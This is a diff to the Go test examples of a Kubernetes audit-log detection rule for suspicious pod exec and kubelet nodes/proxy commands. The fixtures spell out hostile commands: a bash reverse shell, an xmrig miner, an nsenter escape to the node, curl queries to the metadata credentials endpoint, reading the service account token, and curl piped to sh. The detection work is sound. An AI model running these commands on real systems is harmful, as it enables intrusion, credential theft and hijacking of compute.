@@ -41,61 +41,69 @@ var SuspiciousCommand = rule.Detection{
 	}, `
 merlon detect --keep-commands AUDIT.log
 `, shutOut(), isolatePod()),
-	On: []rule.Selector{{Verbs: []string{"get", "create"}, Resources: []string{"pods/exec"}}},
+	On: []rule.Selector{
+		{Verbs: []string{"get", "create"}, Resources: []string{"pods/exec"}},
+		{Resources: []string{"nodes/proxy"}}, // The kubelet runs commands too.
+	},
 	Where: []rule.EventCondition{
-		runsCommand("suspicious-command", func(args []string) bool { return suspicionOf(args) != nil }),
 		succeeded(),
+		runsCommand("suspicious-command", func(args []string) bool { return suspicionOf(args) != nil }),
 	},
 	About: []rule.EventField{rule.FieldUser, rule.FieldNamespace, rule.FieldName},
 	Examples: []rule.EventExample{
 		{
 			Name:  "a reverse shell",
-			Input: execOf("get", "shop", "web-0", 101, "bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
+			Input: execOf("get", 101, "bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
 			Want:  finding.Present,
 			Path:  "$.requestURI",
 		},
 		{
 			Name:  "a miner",
-			Input: execOf("create", "shop", "web-0", 101, "/tmp/xmrig", "-o", "pool.example:3333"),
+			Input: execOf("create", 101, "/tmp/xmrig", "-o", "pool.example:3333"),
 			Want:  finding.Present,
 		},
 		{
 			Name:  "a way out to the node",
-			Input: execOf("get", "shop", "web-0", 101, "nsenter", "-t", "1", "-m", "-u", "sh"),
+			Input: execOf("get", 101, "nsenter", "-t", "1", "-m", "-u", "sh"),
 			Want:  finding.Present,
 		},
 		{
 			Name:  "a question to the metadata service",
-			Input: execOf("get", "shop", "web-0", 101, "curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+			Input: execOf("get", 101, "curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+			Want:  finding.Present,
+		},
+		{
+			Name:  "a question to the metadata service, by the kubelet's API",
+			Input: nodeProxy(record{Verb: "create"}, "run/shop/web-0/main?cmd=curl+http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
 			Want:  finding.Present,
 		},
 		{
 			Name:     "the token of the service account",
-			Input:    execOf("get", "shop", "web-0", 101, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+			Input:    execOf("get", 101, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
 			Want:     finding.Present,
 			Severity: graded(finding.SeverityMedium),
 		},
 		{
 			Name:     "a script run as it is downloaded",
-			Input:    execOf("get", "shop", "web-0", 101, "sh", "-c", "curl -s https://198.51.100.7/i.sh | sh"),
+			Input:    execOf("get", 101, "sh", "-c", "curl -s https://198.51.100.7/i.sh | sh"),
 			Want:     finding.Present,
 			Severity: graded(finding.SeverityMedium),
 		},
 		{
 			Name:   "a shell",
-			Input:  execOf("get", "shop", "web-0", 101, "bash"),
+			Input:  execOf("get", 101, "bash"),
 			Want:   finding.Absent,
 			Misses: "suspicious-command",
 		},
 		{
 			Name:   "a request that was not allowed",
-			Input:  execOf("get", "shop", "web-0", 403, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+			Input:  execOf("get", 403, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
 			Want:   finding.Absent,
 			Misses: "succeeded",
 		},
 		{
 			Name:  "a record without the arguments",
-			Input: execOf("get", "shop", "web-0", 101, "cat", redact.Plain),
+			Input: execOf("get", 101, "cat", redact.Plain),
 			Want:  finding.Unknown,
 		},
 	},
